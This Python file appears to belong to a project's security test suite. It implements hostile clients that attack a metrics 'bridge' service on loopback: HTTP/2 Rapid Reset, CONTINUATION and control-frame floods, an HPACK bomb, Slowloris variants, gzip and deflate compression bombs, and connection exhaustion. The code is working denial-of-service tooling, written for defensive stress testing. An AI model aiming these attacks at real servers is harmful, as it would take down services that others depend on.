"""Hostile clients for the bridge's attack suite (test_attacks.py), each a known attack family.

Each attack runs on its own threads until ``stop`` is set, against a real bridge on loopback
(``host``, ``port``), and counts what it sent. The HTTP/2 ones write frames by hand (RFC 9113
§4.1: a 9-byte head, then the payload) and HPACK blocks by hand where the attack is the
encoding itself (RFC 7541); a normal call's header block comes from the ``hpack`` package.
Bounded: every loop stops with ``stop`` and every socket is closed when the attack ends.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import hpack

EXPORT_PATH = "/opentelemetry.proto.collector.metrics.v1.MetricsService/Export"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9
)  # fmt: skip
END_STREAM, END_HEADERS = 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame (RFC 9113 §4.1)."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream & 0x7FFFFFFF)
        + payload
    )


def settings(**values: int) -> bytes:
    ids = {"initial_window_size": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def grpc_message(message: bytes, *, compressed: bool = False) -> bytes:
    return bytes((1 if compressed else 0,)) + struct.pack(">I", len(message)) + message


def call_headers(
    encoder: hpack.Encoder, authority: str, *, indexed: bool = True, **extra: str
) -> bytes:
    """A gRPC Export call's header block (RFC 9113 §8.3, the gRPC HTTP/2 protocol); with
    ``indexed`` False every field is a never-indexed literal (the peer's table is untouched)."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", EXPORT_PATH),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra.items(),
    ]
    if not indexed:
        return bytes(encoder.encode([(name, value, True) for name, value in fields]))
    return bytes(encoder.encode(fields))


def hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
    """An HPACK integer (RFC 7541 §5.1) with ``first``'s high bits set."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal_indexed(name: bytes, value: bytes) -> bytes:
    """A literal field with incremental indexing and a new name (RFC 7541 §6.2.1)."""
    return b"\x40" + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


@dataclass
class Attack:
    """An attack family: ``run`` until ``stop``; ``sent`` counts its units (calls, frames)."""

    name: str
    host: str
    port: int
    body: bytes = b""  # a valid ExportMetricsServiceRequest, for attacks that need one
    sent: int = 0
    errors: int = 0
    threads: int = 1  # workers running ``run`` (connections, where ``parallel`` is False)
    parallel = True
    sockets: list[socket.socket] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def connect(self, *, timeout_s: float = 5.0) -> socket.socket:
        sock = socket.create_connection((self.host, self.port), timeout=timeout_s)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        with self._lock:
            self.sockets.append(sock)
        return sock

    def h2(self, *, window: int | None = None) -> socket.socket:
        sock = self.connect()
        extra = {} if window is None else {"initial_window_size": window}
        sock.sendall(PREFACE + settings(**extra) + frame(SETTINGS, 0x1, 0))
        return sock

    def count(self, units: int = 1) -> None:
        with self._lock:
            self.sent += units

    def close_all(self) -> None:
        with self._lock:
            sockets, self.sockets = self.sockets, []
        for sock in sockets:
            with contextlib.suppress(OSError):
                sock.close()

    def run(self, stop: threading.Event) -> None:
        raise NotImplementedError

    def loop(self, stop: threading.Event, once: Callable[[], None], *, pace_s: float = 0.0) -> None:
        """Call ``once`` until ``stop``; a connection the server closed is opened again."""
        while not stop.is_set():
            try:
                once()
            except OSError:
                self.errors += 1
                time.sleep(0.01)
            if pace_s:
                stop.wait(pace_s)


def drain(sock: socket.socket, stop: threading.Event) -> threading.Thread:
    """Read and drop what the server sends (the attacker keeps the connection healthy)."""

    def read() -> None:
        with contextlib.suppress(OSError):
            while not stop.is_set() and sock.recv(65536):
                pass

    thread = threading.Thread(target=read, daemon=True)
    thread.start()
    return thread


class _Streams:
    """Odd stream ids from 1, as a client opens them."""

    def __init__(self) -> None:
        self.next = 1

    def __iter__(self) -> Iterator[int]:
        return self

    def __next__(self) -> int:
        stream, self.next = self.next, self.next + 2
        return stream


# ---- HTTP/2 (gRPC) families -----------------------------------------------------------------
class StreamFlood(Attack):
    """Opens an HTTP/2 connection and sends ``per_batch`` new streams' frames every
    ``pace_s`` until ``stop`` (:meth:`streams_frames` says what each stream gets)."""

    window: int | None = None  # the client's INITIAL_WINDOW_SIZE (None: the default)
    reads = True  # whether the client reads what the server sends
    per_batch = 20
    pace_s = 0.01

    def stream_frames(self, encoder: hpack.Encoder, stream: int) -> bytes:
        raise NotImplementedError

    def after_batch(self, sock: socket.socket) -> None:
        """Called after each batch (extra frames)."""

    def run(self, stop: threading.Event) -> None:
        def once() -> None:
            sock = self.h2(window=self.window)
            if self.reads:
                drain(sock, stop)
            else:
                sock.settimeout(2.0)
            encoder = hpack.Encoder()
            streams = _Streams()
            while not stop.is_set():
                batch = b"".join(
                    self.stream_frames(encoder, next(streams)) for _ in range(self.per_batch)
                )
                sock.sendall(batch)
                self.count(self.per_batch)
                self.after_batch(sock)
                stop.wait(self.pace_s)

        self.loop(stop, once)

    def call(self, encoder: hpack.Encoder, stream: int, authority: str) -> bytes:
        """A complete valid Export call on ``stream``."""
        return frame(HEADERS, END_HEADERS, stream, call_headers(encoder, authority)) + frame(
            DATA, END_STREAM, stream, grpc_message(self.body)
        )


class HpackBomb(StreamFlood):
    """One 4 KB dynamic-table entry, then 64 KiB header blocks of 1-byte references to it
    (each decodes to 4 KB of header list), 80 blocks a second a connection (CVE-2016-6581's
    family)."""

    per_batch = 1
    pace_s = 1 / 80

    def stream_frames(self, encoder: hpack.Encoder, stream: int) -> bytes:
        block = call_headers(encoder, "bomb", indexed=False)  # the entry stays the newest
        if stream == 1:  # a new connection: its table gets the entry
            block += hpack_literal_indexed(b"x-bomb", b"a" * 4000)
        block += b"\xbe" * (65536 - len(block))  # index 62: the newest entry
        chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
        out = frame(HEADERS, END_STREAM, stream, chunks[0])
        for index, chunk in enumerate(chunks[1:], 2):
            out += frame(CONTINUATION, END_HEADERS if index == len(chunks) else 0, stream, chunk)
        return out


class HeldAnswers(StreamFlood):
    """``INITIAL_WINDOW_SIZE`` 0 and valid calls as fast as the server takes them (up to
    ~2,000 a second): every answer waits for a window that never opens; every 0.5 s 1,000
    WINDOW_UPDATE and 500 SETTINGS frames (each made the old server walk every held answer)."""

    window = 0
    _last = 0.0

    def stream_frames(self, encoder: hpack.Encoder, stream: int) -> bytes:
        return self.call(encoder, stream, "held")

    def after_batch(self, sock: socket.socket) -> None:
        if time.monotonic() - self._last > 0.5:
            self._last = time.monotonic()
            noise = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000
            sock.sendall(noise + settings(initial_window_size=0) * 500)


class NeverReading(StreamFlood):
    """Valid calls on a connection whose client never reads a byte of the answers."""

    reads = False
    per_batch = 1
    pace_s = 0.002

    def stream_frames(self, encoder: hpack.Encoder, stream: int) -> bytes:
        return self.call(encoder, stream, "mute")


class ResetComplete(StreamFlood):
    """A complete valid call, then RST_STREAM(CANCEL) at once, 2,000 a second."""

    def stream_frames(self, encoder: hpack.Encoder, stream: int) -> bytes:
        cancel = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        return self.call(encoder, stream, "rst") + cancel


class RapidReset(StreamFlood):
    """CVE-2023-44487: HEADERS opening a call, RST_STREAM at once, as fast as possible."""

    per_batch = 100
    pace_s = 0.001

    def stream_frames(self, encoder: hpack.Encoder, stream: int) -> bytes:
        opened = frame(HEADERS, END_HEADERS, stream, call_headers(encoder, "rapid"))
        return opened + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


class ContinuationFlood(Attack):
    """CVE-2024-27316's family: a HEADERS frame without END_HEADERS, then CONTINUATION frames
    of new header fields without end."""

    def run(self, stop: threading.Event) -> None:
        def once() -> None:
            sock = self.h2()
            drain(sock, stop)
            encoder = hpack.Encoder()
            streams = _Streams()
            while not stop.is_set():
                stream = next(streams)
                sock.sendall(frame(HEADERS, 0, stream, call_headers(encoder, "cont")))
                field_block = hpack_literal_indexed(b"x-flood", b"b" * 1000) * 16
                while not stop.is_set():
                    sock.sendall(frame(CONTINUATION, 0, stream, field_block))
                    self.count()

        self.loop(stop, once)


class TrickledHeaders(Attack):
    """A HEADERS frame without END_HEADERS, then one empty CONTINUATION every second, on
    ``threads`` connections."""

    def run(self, stop: threading.Event) -> None:
        def once() -> None:
            sock = self.h2()
            drain(sock, stop)
            sock.sendall(frame(HEADERS, 0, 1, call_headers(hpack.Encoder(), "trickle")))
            while not stop.is_set():
                sock.sendall(frame(CONTINUATION, 0, 1))
                self.count()
                stop.wait(1.0)

        self.loop(stop, once)


class StreamIdAbuse(Attack):
    """Stream ids reused, decreasing, even, past 2**31-1 and a window pushed past 2**31-1
    (RFC 9113 §5.1.1, §6.9.1): each a connection error; a fresh connection for the next."""

    def run(self, stop: threading.Event) -> None:
        message = grpc_message(self.body)

        def abuses(encoder: hpack.Encoder) -> Iterator[bytes]:
            def call(stream: int) -> bytes:
                return frame(HEADERS, END_HEADERS, stream, call_headers(encoder, "ids")) + frame(
                    DATA, END_STREAM, stream, message
                )

            yield call(5) + call(5)  # reuse
            yield call(7) + call(3)  # decreasing
            yield call(2)  # even: a server-initiated id
            yield call(0x7FFFFFFF) + call(1)  # after the last id
            yield call(9) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2

        kinds: Iterator[bytes] = iter(())

        def once() -> None:
            nonlocal kinds
            sock = self.h2()
            drain(sock, stop)
            abuse = next(kinds, None)
            if abuse is None:
                kinds = abuses(hpack.Encoder())
                abuse = next(kinds)
            sock.sendall(abuse)
            self.count()
            stop.wait(0.02)
            sock.close()

        self.loop(stop, once)


class ControlFlood(Attack):
    """SETTINGS, PING, WINDOW_UPDATE, PRIORITY and empty DATA frames in a flood, on a
    connection that reads slowly (the ACKs they induce pile up on the server)."""

    def run(self, stop: threading.Event) -> None:
        burst = (
            settings(initial_window_size=65535) * 50
            + frame(PING, 0, 0, b"12345678") * 50
            + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 50
            + frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 16)) * 50
        )

        def once() -> None:
            sock = self.h2()
            sock.settimeout(2.0)
            while not stop.is_set():
                sock.sendall(burst)
                self.count(200)
                with contextlib.suppress(BlockingIOError, TimeoutError):
                    sock.recv(4096, socket.MSG_DONTWAIT)

        self.loop(stop, once)


class GrpcSlowloris(Attack):
    """``threads`` connections, each a call whose message arrives one byte a second."""

    def run(self, stop: threading.Event) -> None:
        message = grpc_message(self.body)

        def once() -> None:
            sock = self.h2()
            drain(sock, stop)
            sock.sendall(frame(HEADERS, END_HEADERS, 1, call_headers(hpack.Encoder(), "slow")))
            for byte in message:
                if stop.wait(1.0):
                    return
                sock.sendall(frame(DATA, 0, 1, bytes((byte,))))
                self.count()

        self.loop(stop, once)


class StalledCalls(Attack):
    """Calls whose message never completes (a 4 KB length prefix, 10 bytes sent): eight on
    each of ``threads`` connections, the connection then silent."""

    def run(self, stop: threading.Event) -> None:
        def once() -> None:
            sock = self.h2()
            drain(sock, stop)
            encoder = hpack.Encoder()
            for stream in range(1, 17, 2):
                block = call_headers(encoder, "stall")
                partial = b"\x00\x00\x00\x10\x00" + b"z" * 10  # 10 of 4,096 bytes
                sock.sendall(
                    frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, partial)
                )
                self.count()
            stop.wait(60)

        self.loop(stop, once)


class GrpcCompressionBomb(StreamFlood):
    """A gzip message that inflates to 512 MiB (about 0.5 MB on the wire), 20 a second."""

    per_batch = 1
    pace_s = 0.05

    def stream_frames(self, encoder: hpack.Encoder, stream: int) -> bytes:
        message = grpc_message(bomb(512 << 20), compressed=True)
        block = call_headers(encoder, "bomb", **{"grpc-encoding": "gzip"})
        out = frame(HEADERS, END_HEADERS, stream, block)
        for offset in range(0, len(message), 16384):
            last = offset + 16384 >= len(message)
            out += frame(DATA, END_STREAM if last else 0, stream, message[offset : offset + 16384])
        return out


class SilentConnections(Attack):
    """Connection exhaustion: ``threads`` TCP connections opened and never written to."""

    parallel = False

    def run(self, stop: threading.Event) -> None:
        for _ in range(self.threads):
            if stop.is_set():
                return
            try:
                self.connect()
                self.count()
            except OSError:
                self.errors += 1
        stop.wait(3600)


class PingOnly(Attack):
    """Connection exhaustion, the keep-alive kind: ``threads`` HTTP/2 connections that only
    PING, every 0.5 s."""

    parallel = False

    def run(self, stop: threading.Event) -> None:
        sockets = []
        for _ in range(self.threads):
            with contextlib.suppress(OSError):
                sockets.append(self.h2())
        while not stop.wait(0.5):
            for sock in sockets:
                with contextlib.suppress(OSError):
                    sock.sendall(frame(PING, 0, 0, b"pingping"))
                    self.count()
                    with contextlib.suppress(BlockingIOError):
                        sock.recv(65536, socket.MSG_DONTWAIT)


# ---- HTTP/1.1 families ----------------------------------------------------------------------
def http_head(length: int | None = None, **extra: str) -> bytes:
    lines = ["POST /v1/metrics HTTP/1.1", "Host: bridge", "Content-Type: application/x-protobuf"]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    lines += [f"{key.replace('_', '-')}: {value}" for key, value in extra.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


class HttpSlowloris(Attack):
    """``threads`` connections, each sending its request head one byte a second."""

    def run(self, stop: threading.Event) -> None:
        head = http_head(len(self.body))

        def once() -> None:
            sock = self.connect()
            drain(sock, stop)
            for byte in head:
                if stop.wait(1.0):
                    return
                sock.sendall(bytes((byte,)))
                self.count()

        self.loop(stop, once)


class HttpStalledBodies(Attack):
    """``threads`` connections, each a request whose body stops after 10 of 4,096 bytes."""

    def run(self, stop: threading.Event) -> None:
        def once() -> None:
            sock = self.connect()
            drain(sock, stop)
            sock.sendall(http_head(4096) + b"z" * 10)
            self.count()
            stop.wait(60)

        self.loop(stop, once)


class HttpNeverReading(Attack):
    """Pipelined valid requests on connections whose client never reads its answers."""

    def run(self, stop: threading.Event) -> None:
        request = http_head(len(self.body)) + self.body

        def once() -> None:
            sock = self.connect()
            sock.settimeout(2.0)
            while not stop.is_set():
                sock.sendall(request * 20)
                self.count(20)
                stop.wait(0.005)

        self.loop(stop, once)


class HttpHugeHeaders(Attack):
    """Header fields without end (one long header line, and many short fields)."""

    def run(self, stop: threading.Event) -> None:
        def once() -> None:
            sock = self.connect()
            drain(sock, stop)
            sock.sendall(b"POST /v1/metrics HTTP/1.1\r\nHost: b\r\nX-Long: ")
            for _ in range(64):
                if stop.is_set():
                    return
                sock.sendall(b"a" * 16384)
                self.count()
            sock.close()
            sock = self.connect()
            drain(sock, stop)
            for index in range(2000):
                if stop.is_set():
                    return
                sock.sendall(f"X-{index}: v\r\n".encode())
            sock.close()

        self.loop(stop, once)


class HttpChunkAbuse(Attack):
    """Chunked bodies with endless chunk extensions, then endless 1-byte chunks."""

    def run(self, stop: threading.Event) -> None:
        def once() -> None:
            sock = self.connect()
            drain(sock, stop)
            sock.sendall(http_head(None, Transfer_Encoding="chunked") + b"1;ext=")
            for _ in range(32):
                if stop.is_set():
                    return
                sock.sendall(b"x" * 16384)
                self.count()
            sock.close()
            sock = self.connect()
            drain(sock, stop)
            sock.sendall(http_head(None, Transfer_Encoding="chunked"))
            while not stop.is_set():
                sock.sendall(b"1\r\nz\r\n" * 4096)
                self.count()

        self.loop(stop, once)


class HttpCompressionBomb(Attack):
    """A gzip body that inflates to 512 MiB, and a deflate one, again and again."""

    def run(self, stop: threading.Event) -> None:
        bodies = [("gzip", bomb(512 << 20)), ("deflate", zlib.compress(b"\0" * (64 << 20), 9))]

        def once() -> None:
            sock = self.connect()
            drain(sock, stop)
            while not stop.is_set():
                for encoding, body in bodies:
                    sock.sendall(http_head(len(body), Content_Encoding=encoding) + body)
                    self.count()
                stop.wait(0.05)

        self.loop(stop, once)


_BOMBS: dict[int, bytes] = {}


def bomb(size: int) -> bytes:
    """Gzip of ``size`` zero bytes (compressed once, kept)."""
    if size not in _BOMBS:
        compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
        chunk = b"\0" * (1 << 20)
        parts = [compressor.compress(chunk) for _ in range(size >> 20)]
        _BOMBS[size] = b"".join(parts) + compressor.flush()
    return _BOMBS[size]
